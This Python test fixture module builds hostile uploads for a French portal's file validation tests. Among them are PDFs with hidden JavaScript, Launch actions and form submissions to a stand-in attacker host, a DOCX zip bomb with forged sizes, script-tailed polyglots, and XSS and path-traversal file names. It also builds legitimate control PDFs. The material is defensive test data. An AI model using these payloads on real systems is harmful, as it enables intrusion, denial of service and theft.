"""Hostile files for the upload tests, and a multipart body built by hand: the test
client cleans file names and content types itself, an attacker does not."""

import functools
import struct
import zipfile
import zlib
from io import BytesIO

from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tests import factories

BOUNDARY = "----portail-hostile-boundary"


def multipart(fields: dict, files: list[tuple[str, str, bytes, str]]) -> bytes:
    """A multipart/form-data body: `fields` (a list value repeats the key) then each
    file as (field name, file name, content, declared content type), all sent as is."""
    parts = []
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            parts.append(
                f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{item}\r\n'.encode()
            )
    for field, filename, content, content_type in files:
        head = (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
            f"Content-Type: {content_type}\r\n\r\n"
        )
        parts.append(head.encode("utf-8", "surrogateescape") + content + b"\r\n")
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


CONTENT_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


def pdf() -> bytes:
    return factories.pdf_bytes()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_open_action(JavaScript("app.alert('pdf');"))
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00" * 10)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(entries) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX_PARTS = [
    ("[Content_Types].xml", b"<Types/>"),
    ("_rels/.rels", b"<Relationships/>"),
    ("word/document.xml", b"<w:document/>"),
]


def zip_with_lying_sizes(entries, *, inflated_member, inflated_size, declared_size=1024) -> bytes:
    """An Office-like archive holding `entries` and `inflated_member`, `inflated_size`
    zero bytes written compressed, whose local and central headers then claim
    `declared_size` bytes (with the CRC of that many zeros): an archive reader that
    trusts the headers sees a small, consistent member."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
        chunk = b"\0" * (1024 * 1024)
        with archive.open(inflated_member, "w") as member:
            for start in range(0, inflated_size, len(chunk)):
                member.write(chunk[: inflated_size - start])
    data = bytearray(buffer.getvalue())
    target = inflated_member.encode()
    crc = zlib.crc32(b"\0" * declared_size)
    # Local header: CRC at 14, uncompressed size at 22, name length at 26, name at 30.
    # Central header: CRC at 16, uncompressed size at 24, name length at 28, name at 46.
    for signature, crc_at, size_at, name_length_at, name_at in (
        (b"PK\x03\x04", 14, 22, 26, 30),
        (b"PK\x01\x02", 16, 24, 28, 46),
    ):
        offset = data.find(signature)
        while offset >= 0:
            (name_length,) = struct.unpack_from("<H", data, offset + name_length_at)
            if bytes(data[offset + name_at : offset + name_at + name_length]) == target:
                struct.pack_into("<I", data, offset + crc_at, crc)
                struct.pack_into("<I", data, offset + size_at, declared_size)
            offset = data.find(signature, offset + 4)
    return bytes(data)


@functools.cache
def docx_bomb() -> bytes:
    """A DOCX whose headers declare a 1 KB image that inflates to 200 MB."""
    return zip_with_lying_sizes(
        DOCX_PARTS, inflated_member="word/media/image1.bmp", inflated_size=200 * 1024 * 1024
    )


@functools.cache
def docx_with_lying_sizes() -> bytes:
    """A DOCX whose headers declare a 1 KB part that holds 64 KB: small, but the archive
    is not what it claims to be."""
    return zip_with_lying_sizes(DOCX_PARTS, inflated_member="word/styles.xml", inflated_size=64 * 1024)


def docx_with_many_members(count) -> bytes:
    return zip_bytes([*DOCX_PARTS, *((f"word/media/image{n}.png", b"") for n in range(count))])


# PDFs written byte by byte: what pypdf's writer would never produce (escaped names,
# objects compressed out of sight, an update appended to a signed-off file).


def raw_pdf(
    objects: dict[int, bytes], *, compressed=(), xref_stream=None, root=1, info=None, unlisted=()
) -> bytes:
    """A PDF of `objects` ({number: body}); those in `compressed` go into one object
    stream (FlateDecode), so that none of their bytes can be read in the file, and the
    cross-reference is then a stream (a table otherwise, unless `xref_stream`). Objects
    in `unlisted` are written but left out of the cross-reference."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: (0, 0, 65535)}
    for number in sorted(set(objects) - set(compressed)):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    trailer = b"/Root %d 0 R" % root + (b" /Info %d 0 R" % info if info else b"")
    if compressed:
        stream_number, size = size, size + 1
        offsets, body = [], b""
        for index, number in enumerate(compressed):
            offsets.append(b"%d %d" % (number, len(body)))
            body += objects[number] + b"\n"
            entries[number] = (2, stream_number, index)
        header = b" ".join(offsets) + b"\n"
        data = zlib.compress(header + body)
        entries[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            stream_number,
            len(compressed),
            len(header),
            len(data),
        )
        out += data + b"\nendstream\nendobj\n"
    for number in unlisted:
        del entries[number]
    if compressed or xref_stream:
        xref_number, size = size, size + 1
        xref_offset = len(out)
        entries[xref_number] = (1, xref_offset, 0)
        rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 0))) for number in range(size))
        out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] %s /Length %d >>\nstream\n" % (
            xref_number,
            size,
            trailer,
            len(rows),
        )
        out += rows + b"\nendstream\nendobj\n"
    else:
        xref_offset = len(out)
        out += b"xref\n0 %d\n" % size
        for number in range(size):
            kind, offset, generation = entries.get(number, (0, 0, 65535))
            out += b"%010d %05d %s \n" % (offset, generation, b"n" if kind == 1 else b"f")
        out += b"trailer\n<< /Size %d %s >>\n" % (size, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def with_update(pdf_bytes: bytes, objects: dict[int, bytes]) -> bytes:
    """`pdf_bytes` with an incremental update appended: new versions of `objects`, a
    second cross-reference table and a trailer pointing back to the first (/Prev)."""
    previous = int(pdf_bytes.rstrip().rsplit(b"startxref", 1)[1].split()[0])
    trailer = pdf_bytes[pdf_bytes.rindex(b"trailer") :] if b"\ntrailer" in pdf_bytes else pdf_bytes
    root = int(trailer.split(b"/Root", 1)[1].split()[0])
    size = int(trailer.split(b"/Size", 1)[1].split()[0])
    out = bytearray(pdf_bytes if pdf_bytes.endswith(b"\n") else pdf_bytes + b"\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_offset = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, max(objects) + 1),
        root,
        previous,
        xref_offset,
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra=b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % extra


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [10 10 190 40] /Border [0 0 0] /A %s >>" % action


def pdf_with(objects: dict[int, bytes], *, catalog=CATALOG, page_extra=b"/Annots [4 0 R]", **options):
    """A one-page PDF: catalogue 1, page tree 2, page 3, then `objects` from 4 on, all
    of them compressed in an object stream so that the bytes of the file show nothing."""
    everything = {1: catalog, 2: PAGES, 3: page(page_extra), **objects}
    options.setdefault("compressed", tuple(sorted(everything)))
    return raw_pdf(everything, **options)


JS = b"<< /S /JavaScript /JS (app.launchURL\\('https://attaquant.example/'\\);) >>"
LAUNCH = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /Win << /F (cmd.exe) >> >>"


def hostile_pdfs():
    """(id, PDF bytes): one active or hiding PDF feature each, out of reach of a byte scan."""
    return [
        ("pdf-page-additional-action", pdf_with({}, page_extra=b"/AA << /O %s >>" % JS)),
        ("pdf-link-javascript", pdf_with({4: link(JS)})),
        ("pdf-link-launch", pdf_with({4: link(LAUNCH)})),
        ("pdf-open-action-launch", pdf_with({4: LAUNCH}, catalog=CATALOG[:-2] + b" /OpenAction 4 0 R >>")),
        (
            "pdf-submit-form",
            pdf_with({4: link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/) >> >>")}),
        ),
        ("pdf-import-data", pdf_with({4: link(b"<< /S /ImportData /F (donnees.fdf) >>")})),
        (
            "pdf-go-to-remote",
            pdf_with({4: link(b"<< /S /GoToR /F (\\\\\\\\serveur\\\\a.pdf) /D [0 /Fit] >>")}),
        ),
        ("pdf-go-to-embedded", pdf_with({4: link(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>")})),
        (
            "pdf-rich-media",
            pdf_with(
                {4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>"}
            ),
        ),
        (
            "pdf-file-attachment-annotation",
            pdf_with(
                {
                    4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
                    5: b"<< /Type /Filespec /F (facture.exe) /EF << /F 6 0 R >> >>",
                    # /Emb#65ddedFile is /EmbeddedFile.
                    6: b"<< /Type /Emb#65ddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
                },
                # A stream cannot sit in an object stream.
                compressed=(1, 2, 3, 4, 5),
            ),
        ),
        (
            "pdf-form-field-javascript",
            pdf_with(
                {4: b"<< /FT /Tx /T (montant) /Subtype /Widget /Rect [10 10 190 40] /AA << /K %s >> >>" % JS},
                catalog=CATALOG[:-2] + b" /AcroForm << /Fields [4 0 R] >> >>",
            ),
        ),
        (
            "pdf-names-javascript",
            pdf_with(
                {4: JS}, catalog=CATALOG[:-2] + b" /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>"
            ),
        ),
        (
            "pdf-names-embedded-files",
            pdf_with(
                {4: b"<< /Type /Filespec /F (a.exe) >>"},
                catalog=CATALOG[:-2] + b" /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> >>",
            ),
        ),
        # Escaped names, in plain sight: /J#61vaScript is /JavaScript, /L#61unch is /Launch.
        (
            "pdf-escaped-javascript",
            pdf_with(
                {4: link(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")},
                page_extra=b"/Annots [4 0 R] /AA << /O << /S /#4Aava#53cript /#4A#53 (alert\\(2\\)) >> >>",
                compressed=(),
            ),
        ),
        ("pdf-escaped-launch", pdf_with({4: link(b"<< /S /L#61unch /F (calc.exe) >>")}, compressed=())),
        # Reached by nothing, but in the file, where a viewer repairing it may find it.
        ("pdf-unreferenced-javascript", pdf_with({4: link(b"<< /S /GoTo /D [3 0 R /Fit] >>"), 5: JS})),
        # In an object stream, listed in no cross-reference.
        (
            "pdf-javascript-unlisted-in-object-stream",
            pdf_with({4: link(b"<< /S /GoTo /D [3 0 R /Fit] >>"), 5: JS}, unlisted=(5,)),
        ),
        # A clean file, then an update that adds a script to its page.
        (
            "pdf-javascript-in-update",
            with_update(
                pdf_with({4: link(b"<< /S /GoTo /D [3 0 R /Fit] >>")}, compressed=()),
                {3: page(b"/Annots [4 0 R] /AA << /C << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>")},
            ),
        ),
    ]


def _written(writer) -> bytes:
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def scanned_pdf() -> bytes:
    """A scan: one page showing one compressed greyscale image."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    image = StreamObject()
    # Set before /Filter: stored as given, already compressed.
    image.set_data(zlib.compress(bytes(range(256)) * 256))
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(256),
            NameObject("/Height"): NumberObject(256),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): ArrayObject([NameObject("/FlateDecode")]),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(image)})}
    )
    content = StreamObject()
    content.set_data(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    page[NameObject("/Contents")] = writer._add_object(content)
    return _written(writer)


XMP_PDFA = b"""<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">
<pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></rdf:Description>
</rdf:RDF></x:xmpmeta><?xpacket end="w"?>"""


def pdf_a() -> bytes:
    """What a PDF/A-2b archive adds: XMP metadata naming its conformance, an output
    intent with its colour profile, marked content. Objects in an object stream, as
    office suites write them."""
    return pdf_with(
        {
            4: b"<< /Type /OutputIntent /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB) "
            b"/DestOutputProfile 5 0 R >>",
            5: b"<< /N 3 /Length 4 >>\nstream\nICC.\nendstream",
            6: b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream"
            % (len(XMP_PDFA), XMP_PDFA),
            7: b"<< /Title (Relev\\351 d'identit\\351 bancaire) /Producer (LibreOffice) >>",
        },
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R /OutputIntents [4 0 R] "
        b"/MarkInfo << /Marked true >> /Lang (fr-FR) >>",
        page_extra=b"",
        compressed=(1, 2, 3, 4, 7),
        info=7,
    )


def linearised_pdf() -> bytes:
    """Laid out for the web: the linearisation dictionary first, then the first page."""
    return raw_pdf(
        {
            1: b"<< /Linearized 1 /L 0 /H [0 0] /O 4 /E 0 /N 1 /T 0 >>",
            2: CATALOG.replace(b"2 0 R", b"3 0 R"),
            3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
        },
        root=2,
    )


def updated_pdf() -> bytes:
    """Signed off, then changed: pypdf's incremental writer adds a second page and new
    metadata after the first cross-reference section."""
    writer = PdfWriter(BytesIO(pdf()), incremental=True)
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Relevé mis à jour"})
    return _written(writer)


def annotated_update() -> bytes:
    """An update, written by hand, that adds a link to another page of the file."""
    base = pdf_with({}, page_extra=b"", compressed=())
    return with_update(base, {3: page(b"/Annots [4 0 R]"), 4: link(b"<< /S /GoTo /D [3 0 R /Fit] >>")})


def encrypted_for_permissions(algorithm) -> bytes:
    """Opens without a password; only printing and copying are restricted."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Relevé"})
    writer.encrypt(user_password="", owner_password="proprietaire", permissions_flag=0, algorithm=algorithm)
    return _written(writer)


def encrypted_with_password(algorithm) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="secret", algorithm=algorithm)
    return _written(writer)


def linked_pdf() -> bytes:
    """Hyperlinks, a link to a page, bookmarks, opening on a page: what a report
    exported from a word processor holds."""
    from pypdf.annotations import Link

    writer = PdfWriter()
    first = writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://www.economie.gouv.fr/"))
    writer.add_annotation(0, Link(rect=(50, 80, 200, 100), target_page_index=1))
    chapter = writer.add_outline_item("Chapitre 1", 0)
    writer.add_outline_item("Section 1.1", 1, parent=chapter)
    writer.open_destination = first
    return _written(writer)


def open_action_go_to() -> bytes:
    """Opens on its page through a GoTo action, and a page action that goes to a page."""
    go_to = b"<< /S /GoTo /D [3 0 R /FitH 842] >>"
    return pdf_with(
        {4: link(b"<< /S /URI /URI (https://chorus-pro.gouv.fr/) >>")},
        catalog=CATALOG[:-2] + b" /OpenAction %s /PageMode /UseOutlines >>" % go_to,
        page_extra=b"/Annots [4 0 R] /AA << /O %s >>" % go_to,
    )


def form_pdf() -> bytes:
    """A form to fill in: a text field and a check box, no script."""
    return pdf_with(
        {
            4: b"<< /FT /Tx /T (iban) /Subtype /Widget /Rect [10 10 190 40] /P 3 0 R /V () >>",
            5: b"<< /FT /Btn /T (certifie) /Subtype /Widget /Rect [10 50 30 70] /P 3 0 R /V /Off >>",
        },
        catalog=CATALOG[:-2] + b" /AcroForm << /Fields [4 0 R 5 0 R] /NeedAppearances true >> >>",
        page_extra=b"/Annots [4 0 R 5 0 R]",
    )


def legitimate_pdfs():
    """(id, PDF bytes): the kinds of PDF people really send, each to be accepted."""
    return [
        ("scan", scanned_pdf()),
        ("pdf-a", pdf_a()),
        ("linearised", linearised_pdf()),
        ("incremental-update", updated_pdf()),
        ("incremental-update-by-hand", annotated_update()),
        ("encrypted-for-permissions-aes-256", encrypted_for_permissions("AES-256")),
        ("encrypted-for-permissions-rc4-128", encrypted_for_permissions("RC4-128")),
        ("links-and-bookmarks", linked_pdf()),
        ("open-action-go-to", open_action_go_to()),
        ("object-streams", pdf_with({4: link(b"<< /S /GoTo /D [3 0 R /Fit] >>")})),
        ("form-without-script", form_pdf()),
    ]


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64 + b"IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00"
SCRIPT = b"<script>fetch('/compte/').then(r=>r.text()).then(alert)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"

INVALID_PDF = "n’est pas un PDF valide"
HOSTILE = "contenu actif ou un autre fichier caché"
MISMATCH = "ne correspond pas à son extension"
NOT_ACCEPTED = "n’est pas accepté"
PDF_ONLY = "doit être un PDF"
INFLATES = "dépasse 100 Mo une fois décompressé"
TOO_MANY_PARTS = "trop d’éléments"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def hostile_files():
    """(id, file name, content, declared type, what the form must say — for an upload
    that takes every format, then for one that takes PDF only)."""
    return [
        ("pdf-html-polyglot", "facture.pdf", pdf() + HTML, "application/pdf", HOSTILE, HOSTILE),
        (
            "pdf-zip-polyglot",
            "facture.pdf",
            pdf() + zip_bytes([("a.html", HTML)]),
            "application/pdf",
            HOSTILE,
            HOSTILE,
        ),
        ("pdf-javascript", "facture.pdf", pdf_with_javascript(), "application/pdf", HOSTILE, HOSTILE),
        ("pdf-embedded-file", "facture.pdf", pdf_with_embedded_file(), "application/pdf", HOSTILE, HOSTILE),
        ("jpeg-script-tail", "photo.jpg", JPEG + SCRIPT, "image/jpeg", HOSTILE, PDF_ONLY),
        ("png-html-tail", "scan.png", PNG + HTML, "image/png", HOSTILE, PDF_ONLY),
        (
            "png-zip-polyglot",
            "scan.png",
            PNG + zip_bytes([("x.js", b"alert(1)")]),
            "image/png",
            HOSTILE,
            PDF_ONLY,
        ),
        ("gif-script-as-png", "image.png", GIF + SCRIPT, "image/png", MISMATCH, PDF_ONLY),
        ("gif", "image.gif", GIF, "image/gif", NOT_ACCEPTED, PDF_ONLY),
        ("exe-as-pdf", "facture.pdf", EXE, "application/pdf", INVALID_PDF, INVALID_PDF),
        ("exe", "setup.exe", EXE, "application/octet-stream", NOT_ACCEPTED, PDF_ONLY),
        ("html-as-pdf", "facture.pdf", HTML, "application/pdf", INVALID_PDF, INVALID_PDF),
        ("html-as-txt", "notes.txt", HTML, "text/plain", HOSTILE, PDF_ONLY),
        ("html-as-png-wrong-mime", "scan.png", HTML, "image/png", MISMATCH, PDF_ONLY),
        ("html", "page.html", HTML, "text/html", NOT_ACCEPTED, PDF_ONLY),
        ("svg-script", "logo.svg", SVG, "image/svg+xml", NOT_ACCEPTED, PDF_ONLY),
        ("svg-as-txt", "logo.txt", SVG, "text/plain", HOSTILE, PDF_ONLY),
        ("svg-as-png", "logo.png", SVG, "image/png", MISMATCH, PDF_ONLY),
        (
            "zip-as-docx",
            "courrier.docx",
            zip_bytes([("evil.html", HTML)]),
            "application/zip",
            MISMATCH,
            PDF_ONLY,
        ),
        (
            "docx-with-macros",
            "courrier.docx",
            zip_bytes([("word/document.xml", "<w/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "macros",
            PDF_ONLY,
        ),
        ("docx-inflating-past-the-limit", "courrier.docx", docx_bomb(), DOCX_TYPE, INFLATES, PDF_ONLY),
        ("docx-with-lying-sizes", "courrier.docx", docx_with_lying_sizes(), DOCX_TYPE, HOSTILE, PDF_ONLY),
        (
            "docx-with-too-many-parts",
            "courrier.docx",
            docx_with_many_members(2000),
            DOCX_TYPE,
            TOO_MANY_PARTS,
            PDF_ONLY,
        ),
        *(
            (case, "facture.pdf", content, "application/pdf", HOSTILE, HOSTILE)
            for case, content in hostile_pdfs()
        ),
        ("zero-byte", "vide.pdf", b"", "application/pdf", "Le fichier est vide", "est vide"),
        ("homoglyph-extension", "facture.\u0440df", pdf(), "application/pdf", NOT_ACCEPTED, PDF_ONLY),
        ("rtl-override-exe", "facture\u202efdp.exe", EXE, "application/pdf", NOT_ACCEPTED, PDF_ONLY),
        (
            "fullwidth-extension",
            "facture.\uff50\uff44\uff46",
            pdf(),
            "application/pdf",
            NOT_ACCEPTED,
            PDF_ONLY,
        ),
        ("trailing-dot", "facture.pdf.", pdf(), "application/pdf", NOT_ACCEPTED, PDF_ONLY),
    ]


# Names that are cleaned, not refused: the file is stored under a random name whatever
# it was called, and the name kept for display loses what could mislead or traverse.
HOSTILE_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("/etc/shadow.pdf", "shadow.pdf"),
    ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
    ("C:\\Users\\public\\facture.pdf", "facture.pdf"),
    ("fact\x00ure.pdf", "facture.pdf"),
    ("fact\x1b[31mure.pdf", "fact[31mure.pdf"),
    ("relev\u00e9\u202egnp.pdf", "relevégnp.pdf"),
    ("\u200bfacture\u200d.pdf", "facture.pdf"),
    ("\U0001f4c4 facture \U0001f600.pdf", "\U0001f4c4 facture \U0001f600.pdf"),
    ("\u0444\u0430\u043a\u0442\u0443\u0440\u0430.pdf", "\u0444\u0430\u043a\u0442\u0443\u0440\u0430.pdf"),
    ("a" * 300 + ".pdf", "a" * 46 + ".pdf"),
    # Django's parser cuts at the last slash, ours removes nothing else.
    ("<script>alert(1)</script>.pdf", "script>.pdf"),
    ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
]


def pdf_with_page_content(content: bytes) -> bytes:
    """A PDF whose page content stream holds these bytes, uncompressed."""
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    stream = StreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()
